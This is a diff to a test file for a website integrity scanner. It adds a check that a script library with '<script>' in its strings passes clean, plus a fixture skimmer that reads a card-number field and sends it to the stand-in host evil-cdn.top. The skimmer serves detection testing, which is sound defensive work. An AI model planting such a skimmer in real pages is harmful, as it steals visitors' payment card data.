@@ -1,5 +1,7 @@
 // Shortcuts the scanner takes to save time, each checked to change no verdict: PHP code that can
-// do nothing (data files) is not parsed; the scanner walks folders by entry types, without lstat.
+// do nothing (data files) is not parsed; a script file whose strings hold `<script>` tags is parsed
+// once, the scripts in its strings read from their values; the scanner walks folders by entry
+// types, without lstat.
 
 import assert from 'node:assert/strict';
 import { execFileSync } from 'node:child_process';
@@ -8,6 +10,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { test } from 'node:test';
 import { createFilter } from '../../../src/integrity/filter.ts';
+import { analyseScriptFile } from '../../../src/integrity/scan/js-analysis.ts';
 import { analysePhp, codeActs } from '../../../src/integrity/scan/php-analysis.ts';
 import { loadCodeRules } from '../../../src/integrity/scan/rules.ts';
 import { scanContent } from '../../../src/integrity/scan/scanner.ts';
@@ -96,4 +99,26 @@ test('walkFiles lists the regular files walkRoots finds, in its order, without f
   } finally {
     rmSync(dir, { recursive: true, force: true });
   }
+});
+
+const library = `/* A library that writes scripts into the page. */
+var Lib = {
+  ScriptFragment: '<script[^>]*>([\\S\\s]*?)<\\/script>',
+  load: function (src) { document.write('<script type="text/javascript" src="' + src + '"><\\/script>'); },
+  eval: function (html) { return html.match(new RegExp(this.ScriptFragment, 'img')); },
+};
+`;
+
+test('a script file with <script> in its strings is clean when it is, and its string-held skimmer is found', () => {
+  assert.deepEqual(scanContent(library, { path: 'js/lib.js', rel: 'js/lib.js' }, rules), []);
+  // A skimmer written into the page from concatenated literals: only the strings' values show it.
+  const skimmer = `${library}document.write('<script>var n = document.getElementById("cc_number").value;' +
+  'new Image().src = "https://evil-cdn.top/c?d=" + btoa(n);</script>');
+`;
+  const signals = analyseScriptFile(skimmer);
+  const exfil = signals.find((s) => s.id === 'js-card-exfiltration');
+  assert.ok(exfil, JSON.stringify(signals));
+  assert.equal(exfil.line, 7); // where the string that holds it starts
+  const found = scanContent(skimmer, { path: 'js/lib.js', rel: 'js/lib.js' }, rules);
+  assert.ok(found.some((f) => f.rule === 'js-card-exfiltration'));
 });
